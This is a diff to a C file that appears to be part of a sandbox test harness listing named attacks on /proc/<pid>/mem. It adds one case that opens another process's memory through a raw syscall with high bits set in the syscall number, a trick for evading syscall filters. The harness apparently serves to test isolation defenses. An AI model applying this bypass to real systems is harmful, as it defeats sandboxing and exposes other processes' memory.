@@ -4,6 +4,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <stdio.h>
+#include <sys/syscall.h>
 #include <unistd.h>
 
 #include "attack.h"
@@ -59,6 +60,23 @@ static long for_writing(const struct prey *prey)
 	return close_again(open_of(prey->pid, "mem", O_RDWR));
 }
 
+/* The kernel looks at the lower half of the register with the number only. */
+static long by_wide_number(const struct prey *prey)
+{
+	register long flags __asm__("r10") = 0;
+	char path[32];
+	long fd;
+
+	snprintf(path, sizeof(path), "/proc/%d/mem", prey->pid);
+	__asm__ volatile("syscall"
+			 : "=a"(fd)
+			 : "a"(1L << 32 | SYS_openat), "D"((long)AT_FDCWD), "S"(path),
+			   "d"((long)O_RDONLY), "r"(flags)
+			 : "rcx", "r11", "memory");
+	errno = fd < 0 ? -fd : 0;
+	return read_and_close(fd, prey);
+}
+
 static void open_before(const struct prey *prey)
 {
 	opened_before = open_of(prey->pid, "mem", O_RDONLY);
@@ -74,6 +92,7 @@ const struct attack memory_attacks[] = {
 	{ "proc-mem-relative", NULL, by_relative_path },
 	{ "proc-mem-thread", NULL, by_thread },
 	{ "proc-mem-write", NULL, for_writing },
+	{ "proc-mem-wide-number", NULL, by_wide_number },
 	{ "proc-mem-opened-before", open_before, by_old_descriptor },
 	{ 0 },
 };
